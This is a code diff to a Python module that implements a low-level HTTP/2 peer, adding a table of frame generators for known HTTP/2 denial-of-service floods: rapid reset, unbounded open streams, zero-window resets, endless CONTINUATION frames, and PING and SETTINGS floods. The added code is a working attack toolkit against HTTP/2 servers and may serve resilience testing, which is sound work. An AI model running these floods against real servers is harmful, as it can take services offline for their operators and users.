@@ -1,11 +1,12 @@
 """A peer that speaks HTTP/2 frame by frame, as no library lets one do."""
 
 import contextlib
+import itertools
 import socket
 import ssl
 import struct
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
@@ -122,3 +123,39 @@ class Peer:
 
     def close(self) -> None:
         self.socket.close()
+
+
+def on_streams(
+    make: Callable[[int], bytes], per_chunk: int = 50
+) -> Iterator[bytes]:
+    for first in itertools.count(1, 2 * per_chunk):
+        yield b"".join(make(first + 2 * place) for place in range(per_chunk))
+
+
+# What each sends, of a header block.
+FLOODS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
+    "rapid reset": lambda block: on_streams(
+        lambda stream: (
+            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+            + frame(RESET, 0, stream, struct.pack(">I", 8))
+        )
+    ),
+    "open streams": lambda block: on_streams(
+        lambda stream: frame(HEADERS, END_HEADERS, stream, block)
+    ),
+    "streams that the server resets": lambda block: on_streams(
+        lambda stream: (
+            frame(HEADERS, END_HEADERS, stream, block)
+            + frame(WINDOW, 0, stream, struct.pack(">I", 0))
+        )
+    ),
+    "continuations": lambda block: itertools.chain(
+        [frame(HEADERS, 0, 1, block)],
+        # A header "a" with a value of 16,000 bytes.
+        itertools.repeat(
+            frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x81\x7c" + 16000 * b"x")
+        ),
+    ),
+    "pings": lambda block: itertools.repeat(100 * frame(PING, 0, 0, bytes(8))),
+    "settings": lambda block: itertools.repeat(100 * frame(SETTINGS, 0, 0)),
+}
